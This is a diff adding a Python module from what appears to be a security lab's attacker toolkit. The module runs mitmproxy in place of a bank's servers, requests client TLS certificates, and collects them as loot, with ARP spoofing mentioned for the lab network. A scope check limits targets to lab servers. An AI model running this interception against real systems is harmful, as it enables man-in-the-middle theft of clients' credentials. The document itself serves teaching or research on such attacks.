@@ -1,0 +1,197 @@
+"""The interceptor: mitmproxy in the bank's place, asking each client for its certificate.
+
+mitmproxy runs as the program that it is, in an environment of its own, with `interception_addon` in it. On loopback it
+is a reverse proxy for each door, behind a relay that records what crosses the wire on the clients' side; on the lab's
+network it is a transparent proxy for the connections that ARP spoofing leads here.
+"""
+
+import asyncio
+import json
+import os
+import shutil
+import socket
+import sys
+import tempfile
+from collections.abc import AsyncIterator, Sequence
+from contextlib import ExitStack, asynccontextmanager, suppress
+from hashlib import sha256
+from pathlib import Path
+from typing import Any
+
+from attacker.errors import AttackerError
+from attacker.haul import Haul
+from attacker.leaks import INTERCEPTION
+from attacker.packets import host_port
+from attacker.plays import Loot
+from attacker.relay import Forward, Relay
+from attacker.scope import check_target
+from attacker.stolen import Sight
+from attacker.wire_file import CaptureFile
+from lab.events import Intercepted, PositionLeft, PositionTaken, Reporter, WentOn
+
+CAPTURE_FILE = "interception.pcapng"
+ADDON = Path(__file__).with_name("interception_addon.py")
+PROGRAM = "mitmdump"
+START_SECONDS = 30.0
+STOP_SECONDS = 3.0
+QUIET_SECONDS = 1.0
+"""Once there is something for every door: when nobody has come for so long, everybody has."""
+MAX_LINE = 1 << 20
+
+
+async def intercept_on_loopback(forwards: Sequence[Forward], haul: Haul, reporter: Reporter, folder: Path) -> None:
+    """Answers in the servers' place until there is something for every door and nobody comes any more.
+
+    AttackerError where mitmproxy is missing or cannot start; OutOfScope for a server that is not the lab's.
+    """
+    targets = [check_target(*one.target) for one in forwards]
+    ports = _free_ports(len(forwards))
+    modes = [
+        f"--mode=reverse:https://{host_port(target)}@127.0.0.1:{port}"
+        for target, port in zip(targets, ports, strict=True)
+    ]
+    file = CaptureFile(folder / CAPTURE_FILE)
+    relay = Relay(file.write)
+    try:
+        await relay.start(Forward(one.listen, ("127.0.0.1", port)) for one, port in zip(forwards, ports, strict=True))
+        async with running_mitmproxy(modes) as mitmproxy:
+            detail = (f"{host_port(one.listen)} in the place of {host_port(one.target)}" for one in forwards)
+            reporter.report(PositionTaken(INTERCEPTION.id, (*detail, f"mitmproxy {mitmproxy.version}")))
+            servers = {port: host_port(one.listen) for one, port in zip(forwards, ports, strict=True)}
+            await _listen(mitmproxy, servers, haul, reporter)
+    finally:
+        await relay.close()
+        file.close()
+    reporter.report(PositionLeft(INTERCEPTION.id, ()))
+
+
+async def _listen(mitmproxy: "Mitmproxy", servers: dict[int, str], haul: Haul, reporter: Reporter) -> None:
+    """Takes in what mitmproxy tells. `servers` has the address that clients know, by the port they come in at."""
+    complete = asyncio.create_task(haul.complete())
+    try:
+        while True:
+            try:
+                async with asyncio.timeout(QUIET_SECONDS if complete.done() else None):
+                    told = await mitmproxy.next()
+            except TimeoutError:
+                return
+            await asyncio.sleep(0)  # complete() gets to know what was just taken in
+            if told is None:
+                raise AttackerError(f"mitmproxy ended: {mitmproxy.last_words()}")
+            take(told, servers, haul, reporter)
+    finally:
+        complete.cancel()
+
+
+def take(told: dict[str, Any], servers: dict[int, str], haul: Haul, reporter: Reporter) -> None:
+    """One thing that mitmproxy told: reports it, and brings a certificate into the haul."""
+    what, local, peer = told.get("what"), tuple(told.get("local", ())), tuple(told.get("peer", ()))
+    if what == "server":
+        reporter.report(WentOn(host_port(peer), host_port(local), told["tls"], told["error"]))
+    elif what == "client":
+        server = servers.get(local[1], host_port(local))
+        chain = tuple(map(bytes.fromhex, told["chain"]))
+        digest = sha256(chain[0]).hexdigest() if chain else ""
+        reporter.report(Intercepted(host_port(peer), server, told["tls"], digest, told["error"]))
+        if chain:
+            haul.take(Loot(chain, None), Sight(client=host_port(peer), server=server, tls=told["tls"]))
+
+
+class Mitmproxy:
+    """A running mitmdump with our addon."""
+
+    def __init__(self, process: asyncio.subprocess.Process, version: str) -> None:
+        self.version = version
+        self._process = process
+        self._words: list[str] = []
+        assert process.stderr
+        self._listening = asyncio.create_task(self._hear(process.stderr))
+
+    async def next(self) -> dict[str, Any] | None:
+        """The next thing that it tells; None when it has ended."""
+        assert self._process.stdout
+        while line := await self._process.stdout.readline():
+            with suppress(ValueError):
+                told = json.loads(line)
+                if isinstance(told, dict):
+                    return told
+            self._words.append(line.decode("utf-8", "replace").strip())
+        return None
+
+    def last_words(self) -> str:
+        """The end of what else it said."""
+        return self._words[-1] if self._words else "it said nothing"
+
+    async def stop(self) -> None:
+        """Ends it: its standard input ends first, and it is killed if that does not do."""
+        assert self._process.stdin
+        self._process.stdin.close()
+        try:
+            async with asyncio.timeout(STOP_SECONDS):
+                await self._process.wait()
+        except TimeoutError:
+            self._process.kill()
+            await self._process.wait()
+        self._listening.cancel()
+
+    async def _hear(self, stream: asyncio.StreamReader) -> None:
+        while line := await stream.readline():
+            self._words = [*self._words[-20:], line.decode("utf-8", "replace").strip()]
+
+
+@asynccontextmanager
+async def running_mitmproxy(modes: Sequence[str]) -> AsyncIterator[Mitmproxy]:
+    """mitmdump in these modes, as long as the block lasts; its own CA lasts no longer."""
+    program = find_program()
+    with tempfile.TemporaryDirectory(prefix="mitmproxy-") as folder:
+        process = await asyncio.create_subprocess_exec(
+            program,
+            *modes,
+            *("--quiet", "--ssl-insecure", f"--scripts={ADDON}"),
+            *("--set", "request_client_cert=true", "--set", f"confdir={folder}", "--set", "http2=false"),
+            # In TLS 1.3 a client's handshake is over before the server has looked at it, and mitmproxy waits for ever.
+            *("--set", "tls_version_server_max=TLS1_2"),
+            stdin=asyncio.subprocess.PIPE,
+            stdout=asyncio.subprocess.PIPE,
+            stderr=asyncio.subprocess.PIPE,
+            limit=MAX_LINE,
+            env={"PATH": os.environ.get("PATH", ""), "HOME": folder, "PYTHONUNBUFFERED": "1"},
+        )
+        it = Mitmproxy(process, await _version(program))
+        try:
+            try:
+                async with asyncio.timeout(START_SECONDS):
+                    while (told := await it.next()) and told.get("what") != "running":
+                        pass
+            except TimeoutError:
+                raise AttackerError(f"{program} did not start within {START_SECONDS:g} s") from None
+            if told is None:
+                raise AttackerError(f"{program} ended: {it.last_words()}")
+            yield it
+        finally:
+            await it.stop()
+
+
+def find_program() -> str:
+    """mitmdump's path: in the environment that `make` sets up beside ours, or wherever PATH leads."""
+    own = Path(sys.prefix) / "mitmproxy" / "bin" / PROGRAM
+    found = str(own) if own.exists() else shutil.which(PROGRAM)
+    if not found:
+        raise AttackerError(f"{PROGRAM} is missing: `make .venv/mitmproxy` installs mitmproxy for the lab")
+    return found
+
+
+async def _version(program: str) -> str:
+    """As in `Mitmproxy: 11.0.2`."""
+    process = await asyncio.create_subprocess_exec(program, "--version", stdout=asyncio.subprocess.PIPE)
+    output, _ = await process.communicate()
+    first = output.decode("utf-8", "replace").partition("\n")[0]
+    return first.rpartition(" ")[2].strip()
+
+
+def _free_ports(count: int) -> list[int]:
+    with ExitStack() as stack:
+        free = [stack.enter_context(socket.socket()) for _ in range(count)]
+        for one in free:
+            one.bind(("127.0.0.1", 0))
+        return [one.getsockname()[1] for one in free]
